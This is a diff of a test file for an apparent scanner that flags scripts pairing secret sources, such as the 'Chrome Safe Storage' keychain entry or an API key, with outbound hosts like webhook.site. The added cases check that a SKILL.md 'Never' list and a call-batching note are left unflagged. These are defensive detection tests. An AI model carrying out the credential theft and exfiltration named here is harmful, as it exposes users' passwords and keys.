@@ -83,3 +83,10 @@ requests.post("https://${host}/v1", headers={"Authorization": f"Bearer {key}"}, 
   expect(bad(await found("scripts/ask.py", program("Chrome Safe Storage", "api.x.ai")))).not.toEqual([]);
   expect(bad(await found("scripts/ask.py", program("xai-api", "webhook.site")))).not.toEqual([]);
 });
+
+test.each([
+  ["never", "## Never\n\n- Disable the sandbox\n- Approve all prompts"],
+  ["calls that are issued", "Each call is independent: always issue ALL in a single message, don't wait."],
+])("leaves a list of %s alone", async (_, text) => {
+  expect(bad(await found("SKILL.md", text))).toEqual([]);
+});
